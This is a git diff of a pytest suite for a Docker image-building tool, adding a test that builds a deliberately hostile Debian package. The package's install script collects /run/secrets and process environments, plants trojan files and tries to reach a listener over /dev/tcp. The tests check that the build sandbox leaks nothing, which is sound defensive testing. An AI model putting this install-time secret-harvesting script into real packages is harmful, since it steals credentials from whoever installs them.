@@ -14,7 +14,7 @@ import subprocess
 import tarfile
 import threading
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from contextlib import suppress
 from dataclasses import dataclass, field, replace
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -24,21 +24,25 @@ import docker
 import pytest
 
 from dbmirror.build.fetched_files import build_contexts
-from dbmirror.build.image import build_image, build_secrets
+from dbmirror.build.image import build_image
 from dbmirror.ca_bundle import find_ca_bundle
 from dbmirror.config import IndexConfig
 from dbmirror.fetch.store import Store
 from dbmirror.filters.flavour import Flavour
 from dbmirror.inventory.model import Layer
+from dbmirror.lock.debs.model import DebFile, LockedStep
+from dbmirror.lock.debs.own_sources import archives_of_this_machine
 from dbmirror.lock.fates import Fate, FateKind
-from dbmirror.lock.model import BaseImage, BaseKind, ImageLayer, IndexFile, Lock, LockedPackage, Target
+from dbmirror.lock.model import AptPackage, BaseImage, BaseKind, ImageLayer, IndexFile, Lock, LockedPackage, Target
 from dbmirror.lock.python.build_needs import with_support
 from dbmirror.lock.python.index import Index
 from dbmirror.lock.python.index_settings import IndexSettings, find_indexes
-from dbmirror.render.file_groups import build_needs, file_groups
-from dbmirror.render.image import render
+from dbmirror.render.file_groups import build_needs
+from dbmirror.render.image import all_file_groups, render
 from dbmirror.runtimes.lookup import lookup
 from dbmirror.sandbox.base import ensure_base
+from tests.stack.planted import users_proxies
+from tests.supported import chosen_debs
 
 pytestmark = pytest.mark.stack
 
@@ -82,6 +86,35 @@ def attack(kind, place):
     except OSError:
         pass
 """
+
+
+POSTINST = """#!/bin/bash
+mkdir -p /opt/loot
+{
+  echo "secrets: $(ls -A /run/secrets 2>/dev/null)"
+  echo "interfaces: $(ls /sys/class/net)"
+  cat /run/secrets/* /proc/[0-9]*/environ
+} >/opt/loot/debian.txt 2>/dev/null
+(echo debian >/dev/tcp/@BRIDGE@/@PORT@) 2>/dev/null && echo sent >>/opt/loot/debian.txt
+touch /run/dbmirror/files/trojan /run/dbmirror/scripts/trojan 2>/dev/null
+exit 0
+"""
+
+
+def debian_package(folder: Path, postinst: str) -> bytes:
+    """A Debian package whose own script attacks when it is installed."""
+    control = folder / "acme-debian" / "DEBIAN"
+    control.mkdir(parents=True)
+    (control / "control").write_text(
+        "Package: acme-debian\nVersion: 1.0\nArchitecture: all\nMaintainer: Evil <evil@evil.example>\n"
+        "Description: looks around\n"
+    )
+    (control / "postinst").write_text(postinst)
+    (control / "postinst").chmod(0o755)
+    package = folder / "acme-debian_1.0_all.deb"
+    argv = ["dpkg-deb", "--root-owner-group", "--build", str(control.parent), str(package)]
+    subprocess.run(argv, check=True, capture_output=True)
+    return package.read_bytes()
 
 
 def source(attack: str) -> bytes:
@@ -182,8 +215,8 @@ class Hostile:
         )
         return LockedPackage(name=name, version="1.0", layer=layer, source=file)
 
-    def build(self, mirror: str, *packages: LockedPackage) -> str:
-        """Lock what the build needs, render, fetch and build; the image's tag."""
+    def build(self, mirror: str, *packages: LockedPackage, known: Sequence[LockedStep] = ()) -> str:
+        """Lock what the build needs, render, fetch and build; the image's tag. `known` are steps of apt to be taken."""
         base = ensure_base()
         lock = Lock(
             snapshot="sha256:" + hashlib.sha256(mirror.encode()).hexdigest(),
@@ -210,16 +243,17 @@ class Hostile:
             lock = with_support(lock, needs, index=index, store=store, folder=self.folder)
         assert len(lock.packages) == len(packages), lock.fates
         context = self.folder / mirror
-        render(lock, runtime, mirror=mirror).write(context)
+        debian = chosen_debs(lock, known=known)
+        render(lock, runtime, mirror=mirror, debian=debian).write(context)
         tag = f"scratch-foreign-code:{mirror}"
-        groups = {mirror: file_groups(lock, runtime, flavour=flavour)}
-        with build_contexts(groups, indexes=self.settings, ca_bundle=self.ca_bundle) as contexts:
+        groups = {mirror: all_file_groups(lock, runtime, flavour=flavour, r_lock=None, debian=debian)}
+        logins = self.settings.logins().with_those_of(archives_of_this_machine())
+        with build_contexts(groups, indexes=self.settings, logins=logins, ca_bundle=self.ca_bundle) as contexts:
             build_image(
                 context,
                 tags=[tag],
                 snapshot=lock.snapshot,
                 lock="sha256:0",
-                ca_bundle=self.ca_bundle,
                 contexts=contexts[mirror],
                 record=self.folder / f"{mirror}.json",
             )
@@ -238,6 +272,9 @@ def hostile(listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Ite
         "/acme-evil-1.0.tar.gz": source(attack),
         "/acme_hook-1.0-py3-none-any.whl": wheel(
             "acme_hook", {"acme_hook.pth": hook, "acme_hook.py": attack + "\nattack('hook', '/opt/loot')\n"}
+        ),
+        "/acme-debian_1.0_all.deb": debian_package(
+            folder, POSTINST.replace("@BRIDGE@", listener.bridge).replace("@PORT@", str(listener.port))
         ),
         "/acme_plain-1.0-py3-none-any.whl": wheel("acme_plain", {"acme_plain.py": "VALUE = 1\n"}),
     }
@@ -285,12 +322,27 @@ def hostile(listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Ite
 
 @pytest.fixture(scope="module")
 def attacked(hostile: Hostile) -> Iterator[str]:
-    """The image of a cluster with both packages; the second starts with every interpreter in the layers above."""
+    """The image of a cluster with these packages; the hook starts with every interpreter in the layers above."""
+    content = hostile.contents["/acme-debian_1.0_all.deb"]
+    file = DebFile(
+        filename="acme-debian_1.0_all.deb",
+        url=f"{hostile.address}/acme-debian_1.0_all.deb",
+        sha256=hashlib.sha256(content).hexdigest(),
+        size=len(content),
+    )
+    apt = LockedStep(name="packages", below="system", packages=("acme-debian=1.0",), files=(file,))
     yield hostile.build(
         "attacked",
+        LockedPackage(
+            name="acme-debian",
+            version="1.0",
+            layer=ImageLayer.SYSTEM,
+            source=AptPackage(package="acme-debian", version="1.0"),
+        ),
         hostile.package("acme-hook", "acme_hook-1.0-py3-none-any.whl", ImageLayer.RUNTIME),
         hostile.package("acme-plain", "acme_plain-1.0-py3-none-any.whl", ImageLayer.CLUSTER),
         hostile.package("acme-evil", "acme-evil-1.0.tar.gz", ImageLayer.NOTEBOOK),
+        known=[apt],
     )
     assert any(hostile.asked), "the tool itself has the login of the index"
     subprocess.run(["docker", "rmi", "-f", "scratch-foreign-code:attacked"], check=False, capture_output=True)
@@ -315,6 +367,15 @@ def test_the_attack_ran_and_found_neither_a_secret_nor_a_network(attacked: str, 
     assert not [name for name in found["files"] if name.startswith("/run/secrets")]  # type: ignore[attr-defined]
     assert found["sent"] == []
     assert not [name for name in found["environment"] if "proxy" in name.lower()]  # type: ignore[attr-defined]
+
+
+def test_the_script_of_a_debian_package_ran_and_found_neither(attacked: str) -> None:
+    argv = ["docker", "run", "--rm", "--network", "none", "--entrypoint", "cat", attacked, "/opt/loot/debian.txt"]
+    found = subprocess.run(argv, check=True, capture_output=True, text=True).stdout
+
+    assert found.startswith("secrets: \ninterfaces: lo\n")
+    assert "sent" not in found.splitlines()
+    assert "proxy" not in found.lower()
 
 
 def test_no_layer_and_no_line_of_history_has_a_planted_secret(attacked: str) -> None:
@@ -347,15 +408,16 @@ def test_a_plain_docker_build_fetches_by_itself_and_gives_the_same_packages(host
     tag = users.build("plain")
     by_hand = "scratch-foreign-code:by-hand"
     try:
-        with build_secrets(users.ca_bundle) as secrets:
-            given = [f"--secret=id={name},src={path}" for name, path in secrets.items()]
-            subprocess.run(
-                ["docker", "buildx", "build", "--builder", "default", "--load", "--tag", by_hand, *given, "."],
-                cwd=hostile.folder / "plain",
-                env=environment,
-                check=True,
-                capture_output=True,
-            )
+        (hostile.folder / "proxy").write_bytes(users_proxies())
+        secrets = {"ca-bundle": users.ca_bundle, "proxy": hostile.folder / "proxy"}
+        given = [f"--secret=id={name},src={path}" for name, path in secrets.items()]
+        subprocess.run(
+            ["docker", "buildx", "build", "--builder", "default", "--load", "--tag", by_hand, *given, "."],
+            cwd=hostile.folder / "plain",
+            env=environment,
+            check=True,
+            capture_output=True,
+        )
         assert listing(by_hand) == listing(tag)
         assert CERTIFICATE_MARK.encode() not in saved(by_hand)
     finally:
